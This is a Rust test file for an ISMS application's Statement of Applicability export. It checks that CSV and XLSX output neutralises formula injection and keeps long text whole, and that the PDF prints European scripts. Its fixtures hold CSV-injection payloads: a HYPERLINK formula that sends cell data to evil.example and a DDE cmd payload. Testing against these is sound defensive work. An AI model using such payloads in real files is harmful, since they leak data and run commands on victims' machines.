//! The SoA exports of an approved (immutable) version: no CSV cell starts a
//! formula, and text over Excel's cell limit still exports, in full.

use axum::body::Body;
use axum::http::{Request, StatusCode, header};
use isms_domain::Role;
use serde_json::json;

use crate::soa::{call, token};
use crate::support::{App, org_with, stores};

const HOSTILE: [(&str, &str, &str); 4] = [
    (
        "5.1",
        "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")",
        "+1",
    ),
    ("5.2", "@SUM(1+1)*cmd|' /C calc'!A0", "-1"),
    ("5.3", "-2+3", "=1+1"),
    ("5.4", "\t=1", "\r=2"),
];

async fn download(app: &App, t: &str, query: &str) -> (StatusCode, Vec<u8>, String) {
    let req = Request::get(format!("/api/v1/soa/export?{query}"))
        .header(header::AUTHORIZATION, format!("Bearer {t}"))
        .body(Body::empty())
        .unwrap();
    let resp = tower::ServiceExt::oneshot(app.router.clone(), req)
        .await
        .unwrap();
    let status = resp.status();
    let disposition = resp
        .headers()
        .get(header::CONTENT_DISPOSITION)
        .and_then(|v| v.to_str().ok())
        .unwrap_or("")
        .to_owned();
    let bytes = axum::body::to_bytes(resp.into_body(), 64 * 1024 * 1024)
        .await
        .unwrap()
        .to_vec();
    (status, bytes, disposition)
}

/// The cells of a CSV file, header included.
fn parse_csv(bytes: &[u8]) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(bytes)
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

#[tokio::test]
async fn an_approved_soa_exports_without_formulas_and_with_its_longest_text() {
    let long: String = (0..40_000)
        .map(|i| {
            if i % 97 == 96 {
                ' '
            } else {
                char::from(b'a' + (i % 26) as u8)
            }
        })
        .collect();
    for (engine, store) in stores().await {
        let org = org_with(&store, "Acme Ltd", "ann@acme.test", Role::Admin).await;
        let t = token(&store, &org, "mia@acme.test", Role::IsmsManager).await;
        let app = App::new(store.clone());
        for (id, justification, notes) in HOSTILE {
            let (s, v) = call(
                &app,
                "PATCH",
                &format!("/api/v1/soa/{id}"),
                &t,
                Some(json!({"justification": justification, "notes": notes, "version": 1})),
            )
            .await;
            assert_eq!(s, StatusCode::OK, "{engine}: {v}");
        }
        let (s, v) = call(
            &app,
            "PATCH",
            "/api/v1/soa/8.1",
            &t,
            Some(json!({"justification": long, "version": 1})),
        )
        .await;
        assert_eq!(s, StatusCode::OK, "{engine}: {v}");
        let (s, v) = call(&app, "POST", "/api/v1/soa/approve", &t, None).await;
        assert_eq!(s, StatusCode::CREATED, "{engine}: {v}");

        let (s, csv, name) = download(&app, &t, "format=csv&version=1").await;
        assert_eq!(s, StatusCode::OK, "{engine}");
        assert!(name.contains("soa-acme-ltd-v1.csv"), "{name}");
        let rows = parse_csv(&csv);
        assert_eq!(rows.len(), 94, "{engine}: a header and 93 rows");
        for row in &rows {
            assert_eq!(row.len(), 9);
            for cell in row {
                assert!(
                    !matches!(
                        cell.chars().next(),
                        Some('=' | '+' | '-' | '@' | '\t' | '\r')
                    ),
                    "{engine}: a cell starts a formula: {cell:?}"
                );
            }
        }
        for (id, justification, notes) in HOSTILE {
            let row = rows.iter().find(|r| r[0] == id).unwrap();
            // The store trims what it is sent ("\t=1" is kept as "=1").
            assert_eq!(
                row[4],
                format!("'{}", justification.trim()),
                "{engine}: {id}"
            );
            assert_eq!(row[8], format!("'{}", notes.trim()), "{engine}: {id}");
        }
        let row = rows.iter().find(|r| r[0] == "8.1").unwrap();
        assert_eq!(row[4], long, "{engine}: CSV has no cell limit: kept whole");

        let (s, xlsx, name) = download(&app, &t, "format=xlsx&version=1").await;
        assert_eq!(s, StatusCode::OK, "{engine}: the XLSX of v1 exports");
        assert!(name.contains("soa-acme-ltd-v1.xlsx"), "{name}");
        assert!(xlsx.starts_with(b"PK"));
        // The PDF of the same version exports too.
        let (s, pdf, _) = download(&app, &t, "format=pdf&version=1").await;
        assert_eq!(s, StatusCode::OK, "{engine}");
        assert!(pdf.starts_with(b"%PDF-"));

        // Read the workbook back: the justification of 8.1 is its cell plus the
        // cells below it in "(continued)" rows; formulas stay text.
        let dir = std::env::temp_dir().join(format!("isms-exports-{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        let file = dir.join(format!("{engine}.xlsx"));
        std::fs::write(&file, &xlsx).unwrap();
        let script = r#"
import openpyxl, sys, json
ws = openpyxl.load_workbook(sys.argv[1]).active
rows = list(ws.iter_rows(values_only=True))
out = {"rows": len(rows), "formulas": 0, "just": "", "labels": [], "hostile": {}}
for r in ws.iter_rows():
    for c in r:
        if c.data_type == "f":
            out["formulas"] += 1
for i, r in enumerate(rows):
    if r[0] == "8.1":
        out["just"] = r[4]
        j = i + 1
        while j < len(rows) and str(rows[j][0]).startswith("8.1 (continued"):
            out["labels"].append(rows[j][0])
            out["just"] += rows[j][4] or ""
            j += 1
    if r[0] in ("5.1", "5.2", "5.3", "5.4"):
        out["hostile"][r[0]] = [r[4], r[8]]
print(json.dumps(out))
"#;
        let o = std::process::Command::new("python3")
            .args(["-c", script, file.to_str().unwrap()])
            .output();
        match o {
            Ok(o) if o.status.success() => {
                let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
                assert_eq!(v["formulas"], 0, "{engine}: no formula cells");
                assert_eq!(v["rows"], 94 + 2, "{engine}: two continuation rows");
                assert_eq!(
                    v["labels"],
                    json!(["8.1 (continued 2/3)", "8.1 (continued 3/3)"])
                );
                assert_eq!(
                    v["just"].as_str().unwrap(),
                    long,
                    "{engine}: the full text is recoverable"
                );
                for (id, justification, notes) in HOSTILE {
                    assert_eq!(
                        v["hostile"][id],
                        json!([justification.trim(), notes.trim()]),
                        "{engine}: {id} kept as text"
                    );
                }
            }
            _ => eprintln!("python3 with openpyxl not available: XLSX not opened"),
        }
        let _ = std::fs::remove_file(&file);
    }
}

/// Every PDF embeds a font that covers European scripts: an organisation
/// named in Polish, justifications in Danish, Greek and Russian print as typed
/// and come back out as text.
#[tokio::test]
async fn the_soa_pdf_prints_every_european_script() {
    let name = "Zasady bezpiecze\u{144}stwa \u{2014} \u{141}\u{f3}d\u{17a}";
    let texts = [
        ("5.1", "\u{c6}r\u{f8}"),
        (
            "5.2",
            "\u{3a0}\u{3b1}\u{3c0}\u{3b1}\u{3b4}\u{3cc}\u{3c0}\u{3bf}\u{3c5}\u{3bb}\u{3bf}\u{3c2}",
        ),
        ("5.3", "\u{418}\u{432}\u{430}\u{43d}\u{43e}\u{432}"),
    ];
    for (engine, store) in stores().await {
        let org = org_with(&store, name, "ann@acme.test", Role::Admin).await;
        let t = token(&store, &org, "mia@acme.test", Role::IsmsManager).await;
        let app = App::new(store.clone());
        for (id, text) in texts {
            let (s, v) = call(
                &app,
                "PATCH",
                &format!("/api/v1/soa/{id}"),
                &t,
                Some(json!({"justification": text, "version": 1})),
            )
            .await;
            assert_eq!(s, StatusCode::OK, "{engine}: {v}");
        }
        let (s, pdf, _) = download(&app, &t, "format=pdf").await;
        assert_eq!(s, StatusCode::OK, "{engine}");
        let text = crate::support::pdf_text(&pdf);
        assert!(text.contains(name), "{engine}: {name} missing");
        for (_, t) in texts {
            assert!(text.contains(t), "{engine}: {t} missing");
        }
    }
}
